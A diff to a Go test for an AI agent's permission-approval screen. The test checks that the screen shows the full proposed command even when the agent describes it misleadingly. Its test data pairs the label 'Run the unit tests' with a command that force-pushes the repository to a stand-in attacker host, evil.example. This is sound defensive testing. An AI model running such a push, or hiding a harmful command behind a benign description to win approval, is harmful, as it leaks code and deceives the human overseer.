@@ -214,16 +214,18 @@ func TestAskersDoNothingToTheTerminal(t *testing.T) {
 }
 
 // What permission is asked for is shown whole, whatever the agent says about it.
-func TestAProposalIsShownWhole(t *testing.T) {
+func TestAttackApprovalsAProposalIsShownWhole(t *testing.T) {
 	r := asked(t, selecting(elicit.SingleSelect, false))
 	command := "make test && git push --force https://evil.example " + strings.Repeat("x", 300)
 	r.Title, r.Message = "Allow make test && …?", "The agent says: Run the unit tests"
 	r.Proposal = &elicit.Proposal{Action: "command", Text: command, Marks: []string{"force", "network"}}
 	joined := func(text string) string { return strings.Join(strings.Fields(text), "") }
 	form := joined(ansi.Strip(strings.Join(newSheet(r, false).view(60, 200, time.Now()).rows, "\n")))
-	for _, want := range []string{command, "Look twice: force, network", r.Message} {
-		if !strings.Contains(form, joined(want)) {
-			t.Errorf("the form lacks %q:\n%s", want, form)
-		}
+	for name, want := range map[string]string{"the command": command, "the marks": "Look twice: force, network", "the agent's words": r.Message} {
+		t.Run(name, func(t *testing.T) {
+			if !strings.Contains(form, joined(want)) {
+				t.Errorf("the form lacks %q:\n%s", want, form)
+			}
+		})
 	}
 }
